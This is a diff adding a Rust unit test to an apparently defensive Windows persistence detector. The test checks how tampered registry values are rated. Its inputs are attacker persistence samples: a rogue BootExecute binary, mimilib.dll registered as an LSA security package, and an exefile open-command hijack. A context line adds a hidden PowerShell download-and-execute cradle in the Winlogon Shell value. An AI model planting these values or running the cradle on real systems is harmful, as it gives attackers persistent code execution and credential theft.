@@ -50,6 +50,34 @@ fn values_of_winlogon_hold_what_windows_put_there() {
 }
 
 #[test]
+fn values_that_start_code_with_windows_or_the_logon() {
+    let at = |key: &str, name: &str, launch: &str| weight(entry("LSA Providers", key, name, launch));
+    let set = r"HKLM\SYSTEM\CurrentControlSet";
+    let boot = format!(r"{set}\Control\Session Manager");
+    let lsa = format!(r"{set}\Control\Lsa");
+    assert_eq!(at(&boot, "BootExecute", "autocheck autochk *"), None);
+    assert_eq!(
+        at(&boot, "BootExecute", "autocheck autochk *\nC:\\ProgramData\\boot.exe"),
+        Some((Severity::High, Action::Restore))
+    );
+    assert_eq!(at(&lsa, "Security Packages", "kerberos\nmsv1_0"), None);
+    assert_eq!(
+        at(&lsa, "Security Packages", "kerberos\nC:\\ProgramData\\mimilib.dll"),
+        Some((Severity::High, Action::Restore))
+    );
+    let filter = at(&lsa, "Notification Packages", "scecli\nevilfilter");
+    assert_eq!(filter, Some((Severity::Medium, Action::Review)));
+    let command = r"HKLM\SOFTWARE\Classes\exefile\shell\open\command";
+    assert_eq!(at(command, "exefile", "\"%1\" %*"), None);
+    assert_eq!(
+        at(command, "exefile", "C:\\ProgramData\\hook.exe \"%1\" %*"),
+        Some((Severity::High, Action::Restore))
+    );
+    let users = r"HKCU\Software\Classes\exefile\shell\open\command";
+    assert_eq!(at(users, "exefile", r"C:\Tools\x.exe"), Some((Severity::Medium, Action::Review)));
+}
+
+#[test]
 fn a_script_in_a_value_of_windows_is_put_back_not_removed() {
     let command = "powershell -NoP -W Hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')\"";
     let found = weight(entry("Logon", WINLOGON, "Shell", &format!("explorer.exe,{command}")));
